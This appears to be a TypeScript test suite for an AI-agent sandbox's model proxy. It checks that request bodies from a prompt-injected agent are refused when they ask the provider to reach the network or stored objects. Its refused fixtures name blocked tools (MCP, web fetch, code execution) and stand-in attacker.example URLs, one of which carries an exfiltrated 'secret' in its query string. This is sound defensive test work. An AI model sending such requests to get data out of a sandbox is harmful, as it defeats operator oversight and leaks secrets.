// The model proxy reads each request body before anything goes upstream: a prompt-injected
// cloud agent (it holds its run's secret) must not make the provider reach the network for it
// (MCP server, web fetch, code execution, a URL image) or read the operator's stored objects.
import { mkdtempSync, rmSync } from "node:fs";
import { createServer, request as httpRequest, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  ANTHROPIC_MESSAGES_API,
  type ModelProxy,
  OPENAI_RESPONSES_API,
  startModelProxy,
} from "../src/sandbox/model-proxy";

const root = mkdtempSync(join(tmpdir(), "wegent-proxy-body-"));
/** Raw bytes of every request that reached the upstream. */
const reached: Buffer[] = [];
let upstream: Server;
let openai: ModelProxy;
let anthropic: ModelProxy;
let openaiSocket: string;
let anthropicSocket: string;
let openaiSecret: string;
let anthropicSecret: string;

beforeAll(async () => {
  upstream = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("end", () => {
      reached.push(Buffer.concat(chunks));
      res.writeHead(200, { "content-type": "text/event-stream" });
      res.end("event: done\n\n");
    });
  });
  await new Promise<void>((resolve) => upstream.listen(0, "127.0.0.1", resolve));
  const base = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
  openai = await startModelProxy({
    upstream: `${base}/v1`,
    credential: {
      header: "authorization",
      value: "Bearer sk-op",
      agentVariable: "ANTHROPIC_API_KEY",
    },
    api: OPENAI_RESPONSES_API,
  });
  anthropic = await startModelProxy({
    upstream: base,
    credential: { header: "x-api-key", value: "sk-ant-op", agentVariable: "ANTHROPIC_API_KEY" },
    api: ANTHROPIC_MESSAGES_API,
  });
  openaiSocket = join(root, "openai.sock");
  anthropicSocket = join(root, "anthropic.sock");
  openaiSecret = (await openai.issue(openaiSocket)).secret;
  anthropicSecret = (await anthropic.issue(anthropicSocket)).secret;
});

afterAll(async () => {
  await openai?.close();
  await anthropic?.close();
  upstream?.close();
  rmSync(root, { recursive: true, force: true });
});

function send(
  socketPath: string,
  path: string,
  headers: Record<string, string>,
  body: Buffer | string,
): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest({ socketPath, method: "POST", path, headers }, (res) => {
      let text = "";
      res.on("data", (c: Buffer) => (text += c.toString()));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, text }));
    });
    req.on("error", reject);
    req.end(body);
  });
}

const toOpenAI = (body: unknown, headers: Record<string, string> = {}) =>
  send(
    openaiSocket,
    "/v1/responses",
    { authorization: `Bearer ${openaiSecret}`, "content-type": "application/json", ...headers },
    typeof body === "string" ? body : JSON.stringify(body),
  );
const toAnthropic = (body: unknown) =>
  send(
    anthropicSocket,
    `/t/${anthropicSecret}/v1/messages?beta=true`,
    { "x-api-key": "dummy", "content-type": "application/json" },
    typeof body === "string" ? body : JSON.stringify(body),
  );

/** A turn as codex 0.171 sends it (measured: top-level keys and tool types). */
const codexTurn = {
  model: "gpt-5.5",
  instructions: "You are Codex.",
  input: [
    { type: "message", role: "user", content: [{ type: "input_text", text: "héllo ✓" }] },
    { type: "function_call", call_id: "c1", name: "exec_command", arguments: '{"cmd":"ls"}' },
    { type: "function_call_output", call_id: "c1", output: "a.txt" },
    {
      type: "message",
      role: "user",
      content: [{ type: "input_image", image_url: "data:image/png;base64,iVBORw0KGgo=" }],
    },
  ],
  tools: [
    { type: "function", name: "exec_command", parameters: { type: "object", properties: {} } },
    {
      type: "namespace",
      name: "multi_agent_v1",
      tools: [{ type: "function", name: "spawn_agent", parameters: { type: "object" } }],
    },
  ],
  tool_choice: "auto",
  parallel_tool_calls: true,
  reasoning: { summary: "auto" },
  store: false,
  stream: true,
  include: ["reasoning.encrypted_content"],
  prompt_cache_key: "k",
  client_metadata: { turn_id: "t" },
};

/** A turn as Claude Code sends it (measured keys; client tools; WebSearch's server tool). */
const claudeTurn = {
  model: "claude-sonnet-4-5",
  max_tokens: 32000,
  stream: true,
  system: [{ type: "text", text: "You are Claude Code." }],
  messages: [
    { role: "user", content: [{ type: "text", text: "read it" }] },
    {
      role: "assistant",
      content: [
        // A tool's own input is the model's data, never fetched: a parameter named like a
        // reference passes.
        { type: "tool_use", id: "tu1", name: "Fetchy", input: { source: { type: "url" } } },
      ],
    },
    {
      role: "user",
      content: [
        {
          type: "tool_result",
          tool_use_id: "tu1",
          content: [
            { type: "image", source: { type: "base64", media_type: "image/png", data: "iVBO" } },
          ],
        },
      ],
    },
  ],
  tools: [
    { name: "Bash", description: "run", input_schema: { type: "object" } },
    { type: "custom", name: "Read", input_schema: { type: "object" } },
    { type: "web_search_20250305", name: "web_search", max_uses: 8 },
  ],
  metadata: { user_id: "u" },
  thinking: { type: "adaptive" },
  context_management: { edits: [{ type: "clear_thinking_20251015", keep: "all" }] },
  output_config: { effort: "medium" },
};

describe("model proxy: what a request body may ask of OpenAI (Codex)", () => {
  it("forwards a Codex turn byte for byte (spacing, key order and UTF-8 kept)", async () => {
    reached.length = 0;
    const raw = Buffer.from(`{ "stream":true,\n  ${JSON.stringify(codexTurn).slice(1)}`);
    const res = await toOpenAI(raw.toString("utf8"));
    expect(res.status, res.text).toBe(200);
    expect(reached).toHaveLength(1);
    expect(reached[0]?.equals(raw)).toBe(true);
  });

  const refused: [string, unknown][] = [
    [
      "an MCP server",
      { tools: [{ type: "mcp", server_label: "x", server_url: "https://attacker.example" }] },
    ],
    ["live web search", { tools: [{ type: "web_search", external_web_access: true }] }],
    ["web search (Codex's default)", { tools: [{ type: "web_search" }] }],
    ["web search preview", { tools: [{ type: "web_search_preview" }] }],
    ["file search", { tools: [{ type: "file_search", vector_store_ids: ["vs_1"] }] }],
    ["code interpreter", { tools: [{ type: "code_interpreter", container: { type: "auto" } }] }],
    ["image generation", { tools: [{ type: "image_generation" }] }],
    ["computer use", { tools: [{ type: "computer_use_preview" }] }],
    [
      "MCP inside a namespace",
      {
        tools: [
          {
            type: "namespace",
            name: "n",
            tools: [{ type: "mcp", server_url: "https://a.example" }],
          },
        ],
      },
    ],
    ["previous_response_id", { previous_response_id: "resp_other" }],
    ["conversation", { conversation: "conv_1" }],
    ["a stored prompt", { prompt: { id: "pmpt_1" } }],
    ["background", { background: true }],
    [
      "an image at a URL",
      {
        input: [
          {
            type: "message",
            role: "user",
            content: [{ type: "input_image", image_url: "https://attacker.example/?d=secret" }],
          },
        ],
      },
    ],
    [
      "a file at a URL",
      {
        input: [
          {
            type: "message",
            role: "user",
            content: [{ type: "input_file", file_url: "https://attacker.example/f.pdf" }],
          },
        ],
      },
    ],
    [
      "a stored file",
      {
        input: [
          { type: "message", role: "user", content: [{ type: "input_file", file_id: "file-1" }] },
        ],
      },
    ],
    ["a stored item", { input: [{ type: "item_reference", id: "msg_1" }] }],
    ["a body that is not JSON", "{not json"],
  ];
  for (const [label, extra] of refused) {
    it(`answers 400 request_refused and forwards nothing for ${label}`, async () => {
      reached.length = 0;
      const body = typeof extra === "string" ? extra : { ...codexTurn, ...(extra as object) };
      const res = await toOpenAI(body);
      expect(res.status, res.text).toBe(400);
      expect(JSON.parse(res.text)).toMatchObject({ error: { code: "request_refused" } });
      expect(reached).toHaveLength(0);
    });
  }

  it("refuses a compressed body (it cannot be read) and one over 32 MiB (413), forwarding nothing", async () => {
    reached.length = 0;
    const zipped = await toOpenAI(codexTurn, { "content-encoding": "zstd" });
    expect(zipped.status).toBe(400);
    const big = JSON.stringify({ ...codexTurn, pad: "x".repeat(33 * 1024 * 1024) });
    const res = await toOpenAI(big);
    expect(res.status).toBe(413);
    expect(JSON.parse(res.text)).toMatchObject({ error: { code: "request_too_large" } });
    expect(reached).toHaveLength(0);
  });
});

describe("model proxy: what a request body may ask of Anthropic (Claude Code)", () => {
  it("forwards a Claude Code turn (client tools, web search) byte for byte", async () => {
    reached.length = 0;
    const raw = Buffer.from(JSON.stringify(claudeTurn, null, 1));
    const res = await toAnthropic(raw.toString("utf8"));
    expect(res.status, res.text).toBe(200);
    expect(reached[0]?.equals(raw)).toBe(true);
  });

  const refused: [string, object][] = [
    [
      "the MCP connector",
      { mcp_servers: [{ type: "url", url: "https://attacker.example/mcp", name: "x" }] },
    ],
    ["web fetch", { tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] }],
    ["code execution", { tools: [{ type: "code_execution_20250825", name: "code_execution" }] }],
    ["a container", { container: "container_1" }],
    [
      "an image at a URL",
      {
        messages: [
          {
            role: "user",
            content: [
              { type: "image", source: { type: "url", url: "https://attacker.example/?d=1" } },
            ],
          },
        ],
      },
    ],
    [
      "a document at a URL",
      {
        messages: [
          {
            role: "user",
            content: [
              { type: "document", source: { type: "url", url: "https://attacker.example/a.pdf" } },
            ],
          },
        ],
      },
    ],
    [
      "a stored file",
      {
        messages: [
          {
            role: "user",
            content: [{ type: "document", source: { type: "file", file_id: "file_1" } }],
          },
        ],
      },
    ],
  ];
  for (const [label, extra] of refused) {
    it(`answers 400 request_refused and forwards nothing for ${label}`, async () => {
      reached.length = 0;
      const res = await toAnthropic({ ...claudeTurn, ...extra });
      expect(res.status, res.text).toBe(400);
      expect(JSON.parse(res.text)).toMatchObject({ error: { code: "request_refused" } });
      expect(reached).toHaveLength(0);
    });
  }
});
